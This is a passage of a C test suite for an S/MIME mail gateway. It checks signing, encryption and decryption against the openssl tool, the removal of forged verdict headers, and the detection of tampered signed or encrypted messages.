/*
 * The flow against the openssl tool: what leaves is opened and verified with it, what comes in was made with
 * it. Golden files keep the shape, with base64 masked, since keys are made anew each time.
 */
#include "mail_world.h"

#include "mail/transfer_encoding.h"

static struct world w;

#define OURS    "alice@ours.example"
#define PARTNER "bob@partner.example"

static const char plain[] =
    "Received: by test; Tue, 24 Nov 2026 10:00:00 +0000\r\nFrom: Alice <alice@ours.example>\r\n"
    "To: bob@partner.example, gina@partner.example, gus@partner.example\r\nSubject: plans\r\n"
    "X-Sealpost-Signature: valid; signer=ceo@ours.example\r\nMessage-ID: <1@ours.example>\r\n"
    "\r\nThe plan is simple.\r\n";

static const char attachment[] =
    "From: alice@ours.example\r\nTo: bob@partner.example\r\nSubject: with attachment\r\nMIME-Version: 1.0\r\n"
    "Content-Type: multipart/mixed; boundary=outer\r\nX-Keep: yes\r\n\r\n--outer\r\n"
    "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
    "Gr\xc3\xbc\xc3\x9f"
    "e, hier kommt ein langer Text, damit es lesbar bleibt.\r\n--outer\r\n"
    "Content-Type: application/pdf; name=a.pdf\r\nContent-Transfer-Encoding: base64\r\n"
    "Content-Disposition: attachment; filename=a.pdf\r\n\r\nJVBERi0xLjQK\r\n--outer--\r\n";

static int set_up(void **state)
{
    static const struct identity people[] = {
        {.name = "alice", .address = OURS, .days = 300, .with_key = true},
        {.name = "dave", .address = "dave@ours.example", .days = 300, .with_key = true},
        {.name = "ned", .address = "ned@ours.example", .days = 1, .with_key = true},
        {.name = "bob", .address = PARTNER, .days = 300},
        {.name = "carol", .address = "carol@partner.example", .days = 300, .key_type = "ec"},
        {.name = "gina", .address = "gina@partner.example", .days = 300, .key_type = "ec", .knows_gcm = true},
        {.name = "gus", .address = "gus@partner.example", .days = 300, .knows_gcm = true},
        {.name = "una", .address = "una@partner.example", .days = 300, .key_type = "ec", .self = true},
    };
    (void)state;
    world_make_with(&w, people, sizeof people / sizeof people[0]);
    return 0;
}

static int tear_down(void **state)
{
    (void)state;
    world_end(&w);
    return 0;
}

/* Base64 lines of CMS become one "<base64>" line. */
static void assert_golden_shape(struct slice message, const char *name)
{
    struct buf masked = BUF_INIT((size_t)1 << 22);
    bool in_base64 = false;
    while (message.len > 0) {
        const uint8_t *end = memchr(message.data, '\n', message.len);
        size_t len = end == NULL ? message.len : (size_t)(end - message.data) + 1;
        bool base64 = (in_base64 && len > 2 && message.data[0] != '-') ||
                      (message.data[0] == 'M' && message.data[1] == 'I' && len > 60);
        if (base64 && !in_base64) {
            OK(buf_append_text(&masked, "<base64>\r\n"));
        } else if (!base64) {
            OK(buf_append(&masked, message.data, len));
        }
        in_base64 = base64;
        message = slice_of(message.data + len, message.len - len);
    }
    assert_golden(buf_slice(&masked), name);
    buf_release(&masked);
}

/* What `who` reads in the file with the openssl tool, verified if `verify`. */
static void read_with_openssl(const char *file, const char *who, bool verify, struct buf *out)
{
    world_shell(&w, "openssl cms -decrypt -in %s -inkey %s.key -recip %s.pem -out opened", file, who, who);
    if (verify) {
        world_shell(&w, "openssl cms -verify -in opened -CAfile ca.pem -out verified");
    }
    world_file_read(&w, verify ? "verified" : "opened", out);
}

/* --- outgoing --- */

static void encrypts_and_signs(void **state)
{
    (void)state;
    struct buf text = BUF_INIT(65536);
    world_process_text(&w, OURS, (const char *const[]){PARTNER, NULL}, plain);
    world_assert_accepted(&w);
    assert_int_equal(w.out.result.variant_count, 1);
    assert_slice(w.out.result.variants[0].protection, "smime-signed-encrypted");
    assert_false(w.out.result.variants[0].needs_8bit);
    struct slice content = buf_slice(&w.out.contents[0]);
    assert_golden_shape(content, "outgoing_encrypted_cbc.eml");
    world_file_write(&w, "msg", content);
    read_with_openssl("msg", "bob", true, &text);
    assert_true(slice_holds(buf_slice(&text), "Content-Type: text/plain; hp=\"cipher\";\r\n charset=us-ascii"
                                              "\r\n\r\nThe plan is simple.\r\n"));
    buf_release(&text);
}

static void gcm_when_all_know_it(void **state)
{
    (void)state;
    struct buf text = BUF_INIT(65536);
    world_process_text(&w, OURS, (const char *const[]){"gina@partner.example", "gus@partner.example", NULL},
                       plain);
    world_assert_accepted(&w);
    assert_int_equal(w.out.result.variant_count, 1);
    assert_golden_shape(buf_slice(&w.out.contents[0]), "outgoing_encrypted_gcm.eml");
    world_file_write(&w, "msg", buf_slice(&w.out.contents[0]));
    read_with_openssl("msg", "gina", true, &text);
    assert_true(slice_holds(buf_slice(&text), "The plan is simple.\r\n"));
    buf_reset(&text);
    read_with_openssl("msg", "gus", true, &text);
    assert_true(slice_holds(buf_slice(&text), "The plan is simple.\r\n"));
    /* One who does not know it among them: CBC for that variant. */
    world_process_text(&w, OURS, (const char *const[]){PARTNER, "gus@partner.example", NULL}, plain);
    assert_true(slice_holds(buf_slice(&w.out.contents[0]), "smime-type=enveloped-data"));
    buf_release(&text);
}

static void signs_clear_and_7bit(void **state)
{
    (void)state;
    struct buf text = BUF_INIT(65536);
    world_set(&w, SETTING_DOMAIN, "ours.example", "sign.mode", "always");
    world_process_text(&w, OURS, (const char *const[]){"nobody@partner.example", NULL}, attachment);
    world_assert_accepted(&w);
    assert_slice(w.out.result.variants[0].protection, "smime-signed");
    assert_false(w.out.result.variants[0].needs_8bit);
    assert_golden_shape(buf_slice(&w.out.contents[0]), "outgoing_signed.eml");
    world_file_write(&w, "msg", buf_slice(&w.out.contents[0]));
    world_shell(&w, "openssl cms -verify -in msg -CAfile ca.pem -out verified");
    world_file_read(&w, "verified", &text);
    assert_true(slice_holds(buf_slice(&text), "Gr=C3=BC=C3=9Fe, hier"));
    assert_true(slice_holds(buf_slice(&text), "JVBERi0xLjQK"));
    buf_reset(&text);

    world_set(&w, SETTING_DOMAIN, "partner.example", "smime.opaque", "yes");
    world_process_text(&w, OURS, (const char *const[]){"nobody@partner.example", NULL}, attachment);
    world_assert_accepted(&w);
    assert_true(slice_holds(buf_slice(&w.out.contents[0]), "smime-type=signed-data"));
    world_file_write(&w, "msg", buf_slice(&w.out.contents[0]));
    world_shell(&w, "openssl cms -verify -in msg -CAfile ca.pem -out verified");
    world_file_read(&w, "verified", &text);
    assert_true(slice_holds(buf_slice(&text), "Gr=C3=BC=C3=9Fe, hier"));
    world_set(&w, SETTING_DOMAIN, "partner.example", "smime.opaque", "no");
    world_set(&w, SETTING_DOMAIN, "ours.example", "sign.mode", "with-encryption");
    buf_release(&text);
}

static void encrypted_content_keeps_its_bytes(void **state)
{
    (void)state;
    struct buf text = BUF_INIT(65536);
    world_set(&w, SETTING_DOMAIN, "ours.example", "sign.mode", "none");
    world_process_text(&w, OURS, (const char *const[]){PARTNER, NULL}, attachment);
    world_assert_accepted(&w);
    assert_slice(w.out.result.variants[0].protection, "smime-encrypted");
    struct slice content = buf_slice(&w.out.contents[0]);
    assert_true(slice_holds(content, "X-Keep: yes\r\n"));
    assert_int_equal(slice_occurrences(content, "MIME-Version:"), 1);
    assert_int_equal(slice_occurrences(content, "Content-Type:"), 1);
    world_file_write(&w, "msg", content);
    read_with_openssl("msg", "bob", false, &text);
    assert_true(slice_holds(buf_slice(&text), strstr(attachment, "\r\n--outer\r\n")));
    world_set(&w, SETTING_DOMAIN, "ours.example", "sign.mode", "with-encryption");
    buf_release(&text);
}

static void blind_recipients_stay_blind(void **state)
{
    (void)state;
    /* gus and gina are named; carol is not; nobody has no certificate and is plain. */
    world_process_text(&w, OURS,
                       (const char *const[]){"carol@partner.example", PARTNER, "nobody@partner.example",
                                             "gus@partner.example", NULL},
                       plain);
    world_assert_accepted(&w);
    assert_int_equal(w.out.result.variant_count, 3);
    size_t blind = world_variant_of(&w, 0), named = world_variant_of(&w, 1);
    assert_int_not_equal(blind, named);
    assert_int_equal(world_variant_of(&w, 3), named);
    assert_slice(w.out.result.variants[world_variant_of(&w, 2)].protection, "none");
    world_file_write(&w, "blind", buf_slice(&w.out.contents[blind]));
    world_file_write(&w, "named", buf_slice(&w.out.contents[named]));
    assert_true(world_try(&w, "openssl cms -decrypt -in blind -inkey carol.key -recip carol.pem"));
    assert_false(world_try(&w, "openssl cms -decrypt -in named -inkey carol.key -recip carol.pem"));
    assert_true(world_try(&w, "openssl cms -decrypt -in named -inkey gus.key -recip gus.pem"));
    /* Neither names the other's recipients. */
    world_shell(&w, "openssl cms -cmsout -print -noout -in blind > print && test $(grep -c "
                    "'d.keyAgreeRecipientInfo\\|d.kari' print) "
                    "= 1 && ! grep -q 'd.ktri' print");
    world_shell(&w, "openssl cms -cmsout -print -noout -in named > print && test $(grep -c 'd.ktri' print) = "
                    "2 && ! grep -q 'd.kari' print");
}

static const char claims_to_be_encrypted[] =
    "From: alice@ours.example\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\n"
    "not really\r\n";

static void mandatory_refuses_for_all(void **state)
{
    (void)state;
    world_set(&w, SETTING_DOMAIN, "partner.example", "encrypt.mode", "mandatory");
    world_process_text(&w, OURS, (const char *const[]){PARTNER, "nobody@partner.example", OURS, NULL}, plain);
    assert_int_equal(w.out.result.status, STATUS_NO_KEY);
    assert_int_equal(w.out.result.variant_count, 0);
    assert_int_equal(w.out.result.refusal_count, 1);
    assert_int_equal(w.out.result.refusals[0].recipient, 1);
    assert_true(
        slice_holds(w.out.result.refusals[0].reason, "nobody@partner.example: encryption is mandatory"));
    assert_true(w.out.result.trace.len > 0);
    for (size_t i = 0; i < JOB_VARIANTS_MAX; i++) {
        assert_int_equal(w.out.contents[i].len, 0);
    }
    /* No kind of message is let through in silence. */
    static const char *const kinds[] = {
        "From: alice@ours.example\r\nContent-Type: text/calendar; method=REPLY\r\n\r\nBEGIN:VCALENDAR\r\n",
        "From: alice@ours.example\r\nContent-Type: multipart/report; boundary=b\r\n\r\n--b--\r\n",
        "From: alice@ours.example\r\n\r\n",
        "From: alice@ours.example\r\nAuto-Submitted: auto-replied\r\n\r\naway\r\n",
        claims_to_be_encrypted,
        "\r\n",
        "",
    };
    for (size_t i = 0; i < sizeof kinds / sizeof kinds[0]; i++) {
        world_process_text(&w, OURS, (const char *const[]){"nobody@partner.example", NULL}, kinds[i]);
        assert_int_equal(w.out.result.status, STATUS_NO_KEY);
        world_process_text(&w, OURS, (const char *const[]){PARTNER, NULL}, kinds[i]);
        world_assert_accepted(&w);
        assert_true(slice_holds(w.out.result.variants[0].protection, "encrypted"));
    }
    world_process_text(&w, "", (const char *const[]){"nobody@partner.example", NULL}, plain);
    assert_int_equal(w.out.result.status, STATUS_NO_KEY); /* a null sender neither */
    world_set(&w, SETTING_DOMAIN, "partner.example", "encrypt.mode", "opportunistic");
}

/* partial.recipients: the others are served when the setting, the sender and the kind of refusal allow it. */
static void split_serves_the_others(void **state)
{
    (void)state;
    static const char *const three[] = {"nobody@partner.example", PARTNER, OURS, NULL};
    const struct job_result *r = &w.out.result;
    world_set(&w, SETTING_DOMAIN, "partner.example", "encrypt.mode", "mandatory");
    world_set(&w, SETTING_DOMAIN, "ours.example", "partial.recipients", "split");
    world_process_text(&w, OURS, three, plain);
    world_assert_accepted(&w);
    assert_int_equal(r->refusal_count, 1);
    assert_int_equal(r->refusals[0].recipient, 0);
    assert_int_equal(r->variant_count, 2);
    assert_slice(r->variants[world_variant_of(&w, 1)].protection, "smime-signed-encrypted");
    assert_true(slice_holds(r->trace, "split: partial.recipients"));
    struct buf frame = BUF_INIT((size_t)1 << 20);
    struct job_result again;
    OK(job_result_encode(r, &frame)); /* smtp takes it */
    OK(job_result_decode(buf_slice(&frame), 3, 2, &w.arena, &again));
    buf_release(&frame);

    world_process_text(&w, OURS, (const char *const[]){"nobody@partner.example", NULL}, plain);
    assert_int_equal(r->status, STATUS_NO_KEY); /* nobody is left to be served */
    world_process_text(&w, "", three, plain);
    assert_int_equal(r->status, STATUS_NO_KEY); /* nobody could be told */
    assert_int_equal(r->variant_count, 0);
    /* A notification to this sender would have to be encrypted and cannot be. */
    world_process_text(&w, "stranger@partner.example", three, plain);
    assert_int_equal(r->status, STATUS_NO_KEY);
    world_set(&w, SETTING_DOMAIN, "partner.example", "partial.recipients", "split");
    world_process_text(&w, "stranger@partner.example", three, plain);
    assert_int_equal(r->status, STATUS_NO_KEY);
    assert_true(slice_holds(r->trace, "lets no notification through"));
    world_set(&w, SETTING_DOMAIN, "partner.example", "partial.recipients", "refuse-all");
    world_set(&w, SETTING_DOMAIN, "ours.example", "partial.recipients", "refuse-all");
    world_process_text(&w, OURS, three, plain);
    assert_int_equal(r->status, STATUS_NO_KEY);
    assert_int_equal(r->variant_count, 0);
    world_set(&w, SETTING_DOMAIN, "partner.example", "encrypt.mode", "opportunistic");
}

static void a_lost_key_lets_nothing_out(void **state)
{
    (void)state;
    world_look(&w);
    w.keyring.data_key.data[0] ^= 1;
    world_process_text(&w, OURS, (const char *const[]){PARTNER, NULL}, plain);
    w.keyring.data_key.data[0] ^= 1;
    assert_int_not_equal(w.out.result.status, STATUS_OK);
    assert_true(status_retryable(w.out.result.status));
    assert_int_equal(w.out.result.variant_count, 0);
    assert_true(slice_holds(w.out.result.refusals[0].reason, PARTNER ": "));
}

static void plain_leaves_byte_for_byte(void **state)
{
    (void)state;
    static const char untouched[] =
        "From: alice@ours.example\r\nSubject:  odd   spacing \r\n\ttoo\r\n\r\n \r\n8 bit \xe4\r\n";
    world_process_text(&w, OURS, (const char *const[]){"nobody@partner.example", NULL}, untouched);
    world_assert_accepted(&w);
    assert_true(w.out.result.variants[0].unchanged);
    assert_true(w.out.result.variants[0].needs_8bit);
    world_process_text(&w, OURS, (const char *const[]){"nobody@partner.example", NULL}, plain);
    world_assert_accepted(&w);
    assert_false(w.out.result.variants[0].unchanged); /* the forged verdict goes */
    assert_false(slice_holds(buf_slice(&w.out.contents[0]), "Sealpost"));
    assert_int_equal(w.out.contents[0].len,
                     strlen(plain) - strlen("X-Sealpost-Signature: valid; signer=ceo@ours.example\r\n"));
}

/* --- a certificate on demand --- */

static struct {
    enum status answer;
    unsigned asked;
    char address[ADDRESS_MAX + 1];
} demand;

static enum status issue_cb(struct mail_environment *env, struct slice address, struct failure *f)
{
    static const struct identity newcomer = {
        .name = "newcomer", .address = "newcomer@ours.example", .days = 300, .with_key = true};
    demand.asked++;
    assert_true(address.len < sizeof demand.address);
    memcpy(demand.address, address.data, address.len);
    demand.address[address.len] = '\0';
    if (demand.answer != STATUS_OK) {
        return failure_set(f, demand.answer, "as the test says");
    }
    world_identity(&w, &newcomer);
    trust_look_in(w.trust, NULL);
    store_view_end(w.view);
    OK(store_view_begin(w.reader, &w.view, f));
    known_forget(w.known);
    trust_look_in(w.trust, w.view);
    env->view = w.view;
    return STATUS_OK;
}

static bool newcomer_is_signed_for(enum status answer)
{
    static const char text[] = "From: newcomer@ours.example\r\nTo: bob@partner.example\r\n\r\nhello\r\n";
    demand.answer = answer;
    demand.asked = 0;
    world_process_text(&w, "newcomer@ours.example", (const char *const[]){"nobody@partner.example", NULL},
                       text);
    if (w.out.result.status != STATUS_OK || w.out.result.refusal_count != 0) {
        return false;
    }
    struct slice content = world_content(&w, 0, SLICE_LITERAL(text));
    return memmem(content.data, content.len, "multipart/signed", 16) != NULL;
}

static void a_key_is_issued_on_demand(void **state)
{
    (void)state;
    world_set(&w, SETTING_USER, "newcomer@ours.example", "sign.mode", "always");
    assert_false(newcomer_is_signed_for(STATUS_NOT_FOUND)); /* nobody who issues */
    assert_int_equal(demand.asked, 0);
    w.issue_key = issue_cb;
    /* none is to be had: sign.on_missing_key */
    assert_false(newcomer_is_signed_for(STATUS_NOT_FOUND));
    assert_int_equal(demand.asked, 1);
    assert_string_equal(demand.address, "newcomer@ours.example");
    assert_int_equal(w.out.result.status, STATUS_OK);
    assert_int_equal(w.out.result.refusal_count, 0);
    /* nothing can be said now: deferred, and never sent without its signature */
    assert_false(newcomer_is_signed_for(STATUS_UNAVAILABLE));
    assert_int_equal(w.out.result.status, STATUS_UNAVAILABLE);
    assert_true(status_retryable(w.out.result.status));
    assert_non_null(memmem(w.out.result.text.data, w.out.result.text.len, "cannot be issued now", 20));
    assert_int_equal(w.out.result.variant_count, 0);
    /* a key comes: decided anew, on the state that holds it; and then there is one */
    assert_true(newcomer_is_signed_for(STATUS_OK));
    assert_int_equal(demand.asked, 1);
    assert_true(newcomer_is_signed_for(STATUS_OK));
    assert_int_equal(demand.asked, 0);
    w.issue_key = NULL;
}

static void bad_input_is_refused(void **state)
{
    (void)state;
    world_process_text(&w, OURS, (const char *const[]){PARTNER, NULL},
                       "From: alice@ours.example\r\n\r\nbare\nlf\r\n");
    assert_int_equal(w.out.result.status, STATUS_MALFORMED);
    world_process_text(&w, OURS, (const char *const[]){PARTNER, NULL},
                       "From: alice@ours.example\r\njunk line\r\n\r\nx\r\n");
    assert_int_equal(w.out.result.status, STATUS_MALFORMED);
    world_process_text(&w, OURS, (const char *const[]){"no address", NULL}, plain);
    assert_int_equal(w.out.result.status, STATUS_NOT_FOUND);
    /* More blind recipients than variants. */
    const char *many[JOB_VARIANTS_MAX + 4] = {NULL};
    char names[JOB_VARIANTS_MAX + 2][40];
    world_set(&w, SETTING_DOMAIN, "partner.example", "encrypt.mode", "none");
    for (size_t i = 0; i < JOB_VARIANTS_MAX + 2; i++) {
        assert_true(snprintf(names[i], sizeof names[i], "user%zu@partner.example", i) > 0);
        many[i] = names[i];
    }
    world_process_text(&w, OURS, many, plain);
    world_assert_accepted(&w); /* plain: they share one */
    assert_int_equal(w.out.result.variant_count, 1);
    world_set(&w, SETTING_DOMAIN, "partner.example", "encrypt.mode", "opportunistic");
}

/* --- incoming --- */

static const char inner[] = "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: "
                            "8bit\r\nX-Inner: no\r\n\r\nGr\xc3\xbc\xc3\x9f"
                            "e\r\n";

#define HEADERS "-from bob@partner.example -to alice@ours.example -subject answer"

static void opens_what_openssl_made(void **state)
{
    (void)state;
    static const struct {
        const char *cipher, *field;
    } table[] = {
        {"-aes256",
         "X-Sealpost-Encryption: decrypted; protocol=smime; cipher=aes256-cbc; authenticated=no\r\n"},
        {"-aes128",
         "X-Sealpost-Encryption: decrypted; protocol=smime; cipher=aes128-cbc; authenticated=no\r\n"},
        {"-aes-256-gcm", "X-Sealpost-Encryption: decrypted; protocol=smime; cipher=aes256-gcm\r\n"},
        {"-des3", "; weak=yes; authenticated=no\r\n"},
    };
    world_file_write(&w, "inner", slice_of_text(inner));
    for (size_t i = 0; i < sizeof table / sizeof table[0]; i++) {
        struct buf message = BUF_INIT(1 << 20);
        world_shell(&w, "openssl cms -encrypt -binary -in inner %s " HEADERS " -out msg alice.pem",
                    table[i].cipher);
        world_message_read(&w, "msg", &message);
        world_process(&w, PARTNER, (const char *const[]){OURS, NULL}, buf_slice(&message));
        world_assert_accepted(&w);
        struct slice content = buf_slice(&w.out.contents[0]);
        assert_slice(w.out.result.variants[0].protection, "decrypted");
        assert_true(w.out.result.variants[0].needs_8bit);
        if (!slice_holds(content, table[i].field)) {
            print_error("%.*s", SLICE_ARGS(content));
            fail();
        }
        if (i == 0) {
            assert_golden(content, "incoming_decrypted.eml");
        }
        buf_release(&message);
    }
}

/* Signed by bob inside; `sign` and `encrypt` are options for the openssl tool. */
static void check_verdict(const char *signer, const char *options, const char *from, bool encrypt,
                          const char *field)
{
    struct buf message = BUF_INIT(1 << 20);
    world_file_write(&w, "inner", SLICE_LITERAL("Content-Type: text/plain\r\n\r\nsigned words\r\n"));
    world_shell(&w, "openssl cms -sign -binary %s -in inner -signer %s.pem -inkey %s.key %s%s -out signed",
                options, signer, signer, encrypt ? "" : "-to alice@ours.example -subject s -from ",
                encrypt ? "" : from);
    if (encrypt) {
        world_shell(&w,
                    "openssl cms -encrypt -binary -in signed -aes256 -to alice@ours.example -subject s -from "
                    "%s -out msg alice.pem",
                    from);
    }
    world_message_read(&w, encrypt ? "msg" : "signed", &message);
    world_process(&w, from, (const char *const[]){OURS, NULL}, buf_slice(&message));
    world_assert_accepted(&w);
    struct slice content = buf_slice(&w.out.contents[0]);
    if (!slice_starts_with(content, slice_of_text(field))) {
        print_error("wanted %s got %.*s\n%.*s\n", field, 600, (const char *)content.data,
                    SLICE_ARGS(w.out.result.trace));
        fail();
    }
    if (!encrypt) { /* what was there is still there, whole */
        assert_true(content.len > message.len);
        assert_true(slice_equal(slice_of(content.data + content.len - message.len, message.len),
                                buf_slice(&message)));
    }
    buf_release(&message);
}

static void verdicts_are_told(void **state)
{
    (void)state;
    for (int encrypt = 0; encrypt < 2; encrypt++) {
        check_verdict("bob", "", PARTNER, encrypt,
                      "X-Sealpost-Signature: valid; signer=bob@partner.example; protocol=smime; "
                      "algorithm=rsa-pkcs1-sha256; time=");
        check_verdict("bob", "-nodetach", PARTNER, encrypt,
                      "X-Sealpost-Signature: valid; signer=bob@partner.example; protocol=smime; "
                      "algorithm=rsa-pkcs1-sha256; time=");
        check_verdict("bob", "", "carol@partner.example", encrypt,
                      "X-Sealpost-Signature: mismatch; signer=bob@partner.example; protocol=smime; ");
        check_verdict("una", "", "una@partner.example", encrypt, "X-Sealpost-Signature: untrusted");
        check_verdict("ned", "", "ned@ours.example", encrypt, "X-Sealpost-Signature: expired");
    }
}

static void changed_after_signing_is_invalid(void **state)
{
    (void)state;
    struct buf message = BUF_INIT(1 << 20);
    world_file_write(&w, "inner", SLICE_LITERAL("Content-Type: text/plain\r\n\r\npay 100 now\r\n"));
    world_shell(&w,
                "openssl cms -sign -binary -in inner -signer bob.pem -inkey bob.key " HEADERS " -out signed");
    world_message_read(&w, "signed", &message);
    uint8_t *at = memmem(message.data, message.len, "pay 100", 7);
    assert_non_null(at);
    at[4] = '9';
    world_process(&w, PARTNER, (const char *const[]){OURS, NULL}, buf_slice(&message));
    world_assert_accepted(&w);
    assert_true(
        slice_starts_with(buf_slice(&w.out.contents[0]), SLICE_LITERAL("X-Sealpost-Signature: invalid;")));
    buf_release(&message);
}

static void forged_verdicts_go(void **state)
{
    (void)state;
    static const char forged[] =
        "X-Sealpost-Signature: valid; signer=ceo@ours.example\r\nFrom: bob@partner.example\r\n"
        "x-sealpost-encryption : decrypted\r\nX-SEALPOST-Anything:\r\n folded\r\nSubject: s\r\n\r\nbody\r\n";
    world_process_text(&w, PARTNER, (const char *const[]){OURS, NULL}, forged);
    world_assert_accepted(&w);
    assert_slice(buf_slice(&w.out.contents[0]),
                 "X-Sealpost-Signature: none\r\nX-Sealpost-Encryption: none\r\n"
                 "From: bob@partner.example\r\nSubject: s\r\n\r\nbody\r\n");
}

static void only_the_recipients_own_key_opens(void **state)
{
    (void)state;
    struct buf message = BUF_INIT(1 << 20);
    world_file_write(&w, "inner", slice_of_text(inner));
    world_shell(&w, "openssl cms -encrypt -binary -in inner -aes256 " HEADERS " -out msg alice.pem");
    world_message_read(&w, "msg", &message);
    world_process(&w, PARTNER, (const char *const[]){"dave@ours.example", OURS, "keyless@ours.example", NULL},
                  buf_slice(&message));
    world_assert_accepted(&w);
    assert_int_equal(w.out.result.variant_count, 2);
    size_t closed = world_variant_of(&w, 0);
    assert_int_equal(world_variant_of(&w, 2), closed);
    struct slice content = buf_slice(&w.out.contents[closed]);
    assert_true(slice_starts_with(
        content,
        SLICE_LITERAL("X-Sealpost-Signature: none\r\nX-Sealpost-Encryption: failed; protocol=smime\r\n")));
    assert_true(
        slice_equal(slice_of(content.data + content.len - message.len, message.len), buf_slice(&message)));
    assert_true(slice_holds(buf_slice(&w.out.contents[world_variant_of(&w, 1)]), "Gr\xc3\xbc"));

    /* Encrypted to both: one variant for both. */
    buf_reset(&message);
    world_shell(&w, "openssl cms -encrypt -binary -in inner -aes256 " HEADERS " -out msg alice.pem dave.pem");
    world_message_read(&w, "msg", &message);
    world_process(&w, PARTNER, (const char *const[]){"dave@ours.example", OURS, NULL}, buf_slice(&message));
    world_assert_accepted(&w);
    assert_int_equal(w.out.result.variant_count, 1);
    assert_slice(w.out.result.variants[0].protection, "decrypted");
    buf_release(&message);
}

/* Somebody adds a recipient info for dave to a message that only alice's key opens, and sends it to both. */
static void an_added_recipient_gets_nothing(void **state)
{
    (void)state;
    static const char rsa_oid[] = "\x2a\x86\x48\x86\xf7\x0d\x01\x01\x01";
    struct buf der = BUF_INIT(1 << 20), message = BUF_INIT(1 << 20);
    world_file_write(&w, "inner", slice_of_text(inner));
    world_shell(
        &w, "openssl cms -encrypt -binary -in inner -aes-256-gcm -outform DER -out msg alice.pem dave.pem");
    world_file_read(&w, "msg", &der);
    uint8_t *first = memmem(der.data, der.len, rsa_oid, 9);
    assert_non_null(first);
    size_t after = (size_t)(first - der.data) + 9;
    uint8_t *second = memmem(der.data + after, der.len - after, rsa_oid, 9);
    assert_non_null(second);
    second[60] ^= 1; /* within the encrypted key of one of the two */
    OK(buf_append_text(&message, "From: bob@partner.example\r\nContent-Type: application/pkcs7-mime\r\n"
                                 "Content-Transfer-Encoding: base64\r\n\r\n"));
    OK(base64_lines_encode(buf_slice(&der), &message));
    world_process(&w, PARTNER, (const char *const[]){"dave@ours.example", OURS, NULL}, buf_slice(&message));
    world_assert_accepted(&w);
    assert_int_equal(w.out.result.variant_count, 2);
    for (size_t i = 0; i < 2; i++) {
        bool opened = slice_equal(w.out.result.variants[i].protection, SLICE_LITERAL("decrypted"));
        assert_int_equal(opened, slice_holds(buf_slice(&w.out.contents[i]), "Gr\xc3\xbc"));
    }
    assert_false(slice_equal(w.out.result.variants[0].protection, w.out.result.variants[1].protection));
    buf_release(&der);
    buf_release(&message);
}

static void what_is_protected_already(void **state)
{
    (void)state;
    struct buf sealed = BUF_INIT(1 << 20), signed_one = BUF_INIT(1 << 20);
    const char *const to_bob[] = {PARTNER, NULL};
    world_process_text(&w, OURS, to_bob, plain);
    world_assert_accepted(&w);
    OK(buf_append_slice(&sealed, buf_slice(&w.out.contents[0])));
    world_set(&w, SETTING_DOMAIN, "ours.example", "encrypt.already", "refuse");
    world_process(&w, OURS, to_bob, buf_slice(&sealed));
    assert_int_equal(w.out.result.status, STATUS_POLICY);
    world_set(&w, SETTING_DOMAIN, "ours.example", "encrypt.already", "wrap");
    world_process(&w, OURS, to_bob, buf_slice(&sealed));
    world_assert_accepted(&w);
    assert_true(slice_holds(w.out.result.variants[0].protection, "encrypted"));
    world_set(&w, SETTING_DOMAIN, "ours.example", "encrypt.already", "pass");

    /* Signed by the sender's own program: kept, and encrypted as it is. */
    world_file_write(&w, "inner", SLICE_LITERAL("Content-Type: text/plain\r\n\r\nsigned at home\r\n"));
    world_shell(&w, "openssl cms -sign -binary -in inner -signer alice.pem -inkey alice.key -from "
                    "alice@ours.example -out signed");
    world_message_read(&w, "signed", &signed_one);
    world_process(&w, OURS, to_bob, buf_slice(&signed_one));
    world_assert_accepted(&w);
    assert_slice(w.out.result.variants[0].protection, "smime-encrypted");
    world_file_write(&w, "msg", buf_slice(&w.out.contents[0]));
    world_shell(&w, "openssl cms -decrypt -in msg -inkey bob.key -recip bob.pem -out opened && "
                    "openssl cms -verify -in opened -CAfile ca.pem | grep 'signed at home'");
    /* Replaced: one signature, over the content that was signed. */
    world_set(&w, SETTING_DOMAIN, "ours.example", "sign.already", "replace");
    world_set(&w, SETTING_DOMAIN, "ours.example", "sign.mode", "always");
    world_process(&w, OURS, (const char *const[]){"nobody@partner.example", NULL}, buf_slice(&signed_one));
    world_assert_accepted(&w);
    assert_slice(w.out.result.variants[0].protection, "smime-signed");
    assert_int_equal(slice_occurrences(buf_slice(&w.out.contents[0]), "Content-Type: multipart/signed"), 1);
    world_file_write(&w, "msg", buf_slice(&w.out.contents[0]));
    world_shell(&w, "openssl cms -verify -in msg -CAfile ca.pem | grep 'signed at home'");
    world_set(&w, SETTING_DOMAIN, "ours.example", "sign.mode", "with-encryption");
    world_set(&w, SETTING_DOMAIN, "ours.example", "sign.already", "keep");
    buf_release(&sealed);
    buf_release(&signed_one);
}

static void intermediates_go_along(void **state)
{
    (void)state;
    world_identity(&w, &(struct identity){.name = "middle",
                                          .address = "ca@ours.example",
                                          .key_type = "ec",
                                          .days = 300,
                                          .ca = true,
                                          .usage = "keyCertSign,cRLSign"});
    world_identity(&w, &(struct identity){.name = "emma",
                                          .address = "emma@ours.example",
                                          .key_type = "ec",
                                          .days = 300,
                                          .with_key = true,
                                          .issuer = "middle"});
    world_set(&w, SETTING_USER, "emma@ours.example", "sign.mode", "always");
    world_process_text(&w, "emma@ours.example", (const char *const[]){"nobody@partner.example", NULL},
                       "From: emma@ours.example\r\n\r\nwords\r\n");
    world_assert_accepted(&w);
    assert_slice(w.out.result.variants[0].protection, "smime-signed");
    world_file_write(&w, "msg", buf_slice(&w.out.contents[0]));
    world_shell(
        &w, "openssl cms -verify -in msg -CAfile ca.pem | grep words"); /* the root alone is known there */
}

static void expired_keys_still_open(void **state)
{
    (void)state;
    struct buf message = BUF_INIT(1 << 20);
    world_file_write(&w, "inner", slice_of_text(inner));
    world_shell(&w,
                "openssl cms -encrypt -binary -in inner -aes256 -from bob@partner.example -out msg ned.pem");
    world_message_read(&w, "msg", &message);
    world_process(&w, PARTNER, (const char *const[]){"ned@ours.example", NULL}, buf_slice(&message));
    world_assert_accepted(&w);
    assert_slice(w.out.result.variants[0].protection, "decrypted");
    buf_release(&message);
}

static void an_encrypted_part_beside_others_stays_closed(void **state)
{
    (void)state;
    struct buf part = BUF_INIT(1 << 20), message = BUF_INIT(1 << 20);
    world_file_write(&w, "inner", slice_of_text(inner));
    world_shell(&w, "openssl cms -encrypt -binary -in inner -aes256 -out msg alice.pem");
    world_message_read(&w, "msg", &part);
    OK(buf_printf(&message,
                  "From: bob@partner.example\r\nContent-Type: multipart/mixed; "
                  "boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n"
